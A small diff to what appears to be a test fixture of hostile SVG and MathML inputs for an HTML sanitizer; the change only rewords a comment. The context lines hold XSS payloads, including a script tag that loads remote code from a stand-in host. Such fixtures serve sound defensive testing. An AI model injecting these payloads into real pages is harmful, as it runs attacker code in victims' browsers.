@@ -1,4 +1,4 @@
-/** Hostile texts that lean on SVG, on MathML, and on the places where parsers change from one into the other. */
+/** Hostile texts that exploit SVG, MathML, and the transitions between their parsers and HTML's. */
 export const svg = [
   '<svg><script>alert(1)</script></svg>',
   '<svg><script href="https://evil.example/x.js"/></svg>',
